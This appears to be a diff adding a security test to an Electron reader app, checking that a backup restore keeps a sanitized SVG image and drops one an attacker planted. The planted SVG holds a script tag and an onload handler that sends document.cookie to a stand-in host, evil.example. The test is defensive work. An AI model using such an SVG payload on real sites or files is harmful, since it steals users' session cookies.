@@ -2,11 +2,13 @@
 // it ran inside Paperboy (marking an article read deleted every draft), and unsanitized HTML in
 // it reached the reader. Real files: a data folder exported, the backup tampered with through
 // SQLite as an attacker would, restored, and opened as the app opens it.
+import { createHash } from 'node:crypto';
 import { existsSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { restoreDataFolder } from '../../electron/core';
 import { Core } from '../../electron/core/core';
+import { safeDrawing, SVG_TYPE } from '../../electron/core/articles';
 import { BackupError } from '../../electron/core/backup/format';
 import { Sqlite } from '../../electron/core/storage/sqlite';
 import { item } from '../storage/items';
@@ -125,6 +127,29 @@ describe('a restored backup', () => {
       } finally {
         await core.close();
       }
+    }
+  });
+
+  it('brings back an SVG drawing only as Paperboy makes one safe: a planted one with script is left out', async () => {
+    const { backup } = await exported();
+    const honest = safeDrawing(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><rect width="40" height="20" fill="#264653"/></svg>'), SVG_TYPE);
+    const planted = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(1)</script><rect width="40" height="20"/></svg>');
+    const rows = [honest as Uint8Array, planted].map((bytes) => ({ bytes: Buffer.from(bytes), hash: createHash('sha256').update(bytes).digest('hex') }));
+    const db = new Sqlite(backup);
+    for (const { bytes, hash } of rows) {
+      db.run('INSERT INTO backup_images (hash, bytes) VALUES (?, ?)', [hash, bytes]);
+      db.run('INSERT INTO images (hash, mime, size, created_at) VALUES (?, ?, ?, ?)', [hash, SVG_TYPE, bytes.length, Date.now()]);
+    }
+    db.close();
+    const { core } = await restored(backup);
+    try {
+      const [kept, left] = rows.map((row) => core.cachedImage(row.hash));
+      expect(kept).toMatchObject({ mime: SVG_TYPE });
+      expect(existsSync(kept!.file)).toBe(true);
+      // Its record may stay; no file is there to serve (and the next sync fetches what shows it).
+      expect(existsSync(left?.file ?? core.images.path(rows[1]!.hash))).toBe(false);
+    } finally {
+      await core.close();
     }
   });
 
